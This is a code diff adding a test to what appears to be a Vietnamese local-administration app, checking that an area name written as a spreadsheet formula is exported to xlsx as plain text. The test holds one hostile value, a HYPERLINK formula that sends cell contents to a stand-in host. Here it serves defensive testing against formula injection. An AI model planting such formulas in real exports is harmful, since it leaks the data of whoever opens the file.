@@ -112,3 +112,12 @@ def test_the_profile_pdf_counts_the_register_by_kind(login, people, units):
     assert "MÔ HÌNH TỰ QUẢN VỀ ANTT THEO LOẠI" in text.upper()
     assert "Tổ tự quản ANTT 3" in text
     assert "Tổ hòa giải 1" in text
+
+
+def test_a_name_written_as_a_formula_is_exported_as_text(login, people, units):
+    hostile = '=HYPERLINK("http://x/?leak="&A1,"Bấm vào đây")'
+    ResidentialArea.objects.create(ward=units["ward"], kind=AreaKind.THON, name=hostile)
+    job = print_profile(login(people["ward_official"]), units["ward"], "xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(job.file.read())).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
+    assert [cell.data_type for cell in cells] == ["s"]
